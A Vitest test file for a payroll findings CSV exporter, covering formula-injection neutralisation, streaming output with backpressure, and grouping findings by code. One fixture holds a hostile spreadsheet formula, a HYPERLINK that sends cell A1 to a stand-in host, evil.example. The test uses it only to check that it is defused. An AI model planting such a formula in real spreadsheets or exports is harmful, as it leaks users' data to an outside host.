import { PassThrough } from 'node:stream';
import { parse as parseCsvSync } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { FINDING_CATALOGUE, makeFinding, type Finding } from '../../../domain/payroll/findings';
import {
  findingsCsvStream,
  findingsToCsv,
  groupFindingsByCode,
  neutralizeFormula,
  summarizeFindings,
  writeFindingsCsv,
  type FindingLike,
} from '../../../payroll/findings-export';

describe('formula injection', () => {
  it('prefixes an apostrophe to cells starting with = + - @ tab or CR, and nothing else', () => {
    for (const v of ['=1+1', '+5215512345678', '-2.00', '@SUM(A1)', '\tx', '\rx']) expect(neutralizeFormula(v)).toBe(`'${v}`);
    for (const v of ['GARCÍA', '12.50', ' =no', '', "'ya"]) expect(neutralizeFormula(v)).toBe(v);
  });

  it('neutralises the values of a report that a spreadsheet would evaluate', () => {
    const hostile: Finding = makeFinding('E010', {
      row: 7,
      column: 'curp',
      value: '=HYPERLINK("http://evil.example/?"&A1,"ver")',
      message: 'La CURP tiene 43 caracteres, debe tener 18.\nCópiela de la constancia.',
    });
    const csv = findingsToCsv([hostile, { ...hostile, row: 8, value: '@cmd', code: 'E043', column: 'ret_otros', message: '-1' }]);
    expect(csv.startsWith('\uFEFFrow,column,code,severity,value,message\r\n')).toBe(true);
    const parsed = parseCsvSync(csv, { bom: true, columns: true }) as Record<string, string>[];
    expect(parsed).toEqual([
      {
        row: '7',
        column: 'curp',
        code: 'E010',
        severity: 'error',
        value: `'=HYPERLINK("http://evil.example/?"&A1,"ver")`,
        message: 'La CURP tiene 43 caracteres, debe tener 18.\nCópiela de la constancia.',
      },
      { row: '8', column: 'ret_otros', code: 'E043', severity: 'error', value: "'@cmd", message: "'-1" },
    ]);
    for (const record of parsed) for (const cell of Object.values(record)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('streaming CSV writer', () => {
  it('writes 200,000 findings pulled lazily, in chunks, with flat memory', async () => {
    let produced = 0;
    function* many(): Generator<FindingLike> {
      for (let i = 1; i <= 200_000; i++) {
        produced = i;
        yield { row: i, column: 'sueldo_cotizable', code: 'E040', severity: 'error', value: `${i},00`, message: 'El sueldo_cotizable usa coma decimal.' };
      }
    }
    const stream = findingsCsvStream(many());
    const iterator = stream[Symbol.asyncIterator]();
    const first = await iterator.next();
    expect(String(first.value).length).toBeGreaterThan(0);
    expect(produced).toBeLessThan(20_000); // the first chunk did not need the whole report
    let lines = String(first.value).split('\r\n').length - 1;
    for (let r = await iterator.next(); !r.done; r = await iterator.next()) lines += String(r.value).split('\r\n').length - 1;
    expect(lines).toBe(200_001);
  });

  it('writeFindingsCsv respects backpressure and leaves the destination open', async () => {
    const out = new PassThrough({ highWaterMark: 16 });
    const chunks: Buffer[] = [];
    out.on('data', (c: Buffer) => chunks.push(c));
    const findings: FindingLike[] = [{ row: null, column: null, code: 'E002', severity: 'error', value: null, message: 'vacío' }];
    await writeFindingsCsv(findings, out, { bom: false });
    expect(out.writableEnded).toBe(false);
    expect(Buffer.concat(chunks).toString('utf8')).toBe('row,column,code,severity,value,message\r\n,,E002,error,,vacío\r\n');
  });
});

describe('findings grouped by code', () => {
  const findings: FindingLike[] = [
    makeFinding('W021', { row: 3, column: 'rfc', value: 'X', detail: 'a' }),
    makeFinding('E040', { row: 5, column: 'sueldo_cotizable', value: '1,0', detail: 'b' }),
    makeFinding('E040', { row: 5, column: 'sueldo_cotizable', value: '1,0', detail: 'b' }),
    makeFinding('E040', { row: 9, column: 'sueldo_cotizable', value: '', detail: 'c' }),
    makeFinding('W003', { row: 0, column: 'Notas', value: 'Notas', detail: 'd' }),
    makeFinding('E010', { row: 1, column: 'curp', value: 'ABC', detail: 'e' }),
  ];

  it('puts errors first, counts findings and distinct rows, and carries the catalogue texts', () => {
    const groups = groupFindingsByCode(findings);
    expect(groups.map((g) => [g.code, g.severity, g.count, g.rows])).toEqual([
      ['E010', 'error', 1, 1],
      ['E040', 'error', 3, 2],
      ['W003', 'warning', 1, 0],
      ['W021', 'warning', 1, 1],
    ]);
    expect(groups[1]).toMatchObject({ title: FINDING_CATALOGUE.E040.title, fix: FINDING_CATALOGUE.E040.fix });
    expect(summarizeFindings(groups)).toMatchObject({ errors: 4, warnings: 2 });
  });

  it('caps the items kept per code while keeping exact counts', () => {
    const [, e040] = groupFindingsByCode(findings, { maxItemsPerCode: 1 });
    expect(e040).toMatchObject({ code: 'E040', count: 3, omitted: 2 });
    expect(e040!.items).toHaveLength(1);
  });
});
